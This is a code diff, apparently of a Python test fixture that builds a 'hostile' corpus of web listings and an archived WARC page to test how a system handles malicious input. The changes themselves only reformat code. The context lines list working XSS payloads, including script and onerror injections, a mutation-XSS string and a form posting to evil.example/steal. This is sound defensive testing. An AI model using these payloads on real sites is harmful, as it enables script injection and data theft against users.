@@ -41,7 +41,7 @@ PAYLOADS: tuple[str, ...] = (
     "</textarea></title><script>alert(9)</script>",
     '<form action="https://evil.example/steal"><button id="evil-button">go</button></form>',
     '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
 )
 
 HOSTILE_TEXT = " ⁂ ".join(PAYLOADS)
@@ -72,7 +72,9 @@ def write_warc(folder: Path, url: str, html: str) -> tuple[Path, int, str]:
     path = folder / "hostile.warc.gz"
     with path.open("wb") as handle:
         writer = WARCWriter(handle, gzip=True)
-        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
+        headers = StatusAndHeaders(
+            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
+        )
         record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers)
         offset = handle.tell()
         writer.write_record(record)
@@ -90,7 +92,9 @@ def hostile_page() -> str:
     )
 
 
-def store_hostile(store: Store, folder: Path, agency: str = "A", collection: str = "hostile") -> dict[str, Any]:
+def store_hostile(
+    store: Store, folder: Path, agency: str = "A", collection: str = "hostile"
+) -> dict[str, Any]:
     """Store the corpus in ``collection`` (AMBER, owned by ``agency``): one listing per payload
     (the payload in every field), one holding them all with an archived page, one on a hostile
     platform; link them all into network ``hostile``. The listings' references and the network."""
@@ -136,7 +140,9 @@ def store_hostile(store: Store, folder: Path, agency: str = "A", collection: str
             Selector("email", f"x{index}@evil.example", payload, "text", 0, 5),
             Selector("handle", payload, payload, "text", 0, 5),
         )
-        pairs.append((listing, Analysis(uid, detection, selectors, language="en", analyzer_version="hostile")))
+        pairs.append(
+            (listing, Analysis(uid, detection, selectors, language="en", analyzer_version="hostile"))
+        )
         refs.append(str(listing.key))
     store.save_batch(pairs, collection_id=collection_id)
     clusters = {ref: "hostile" for ref in refs}
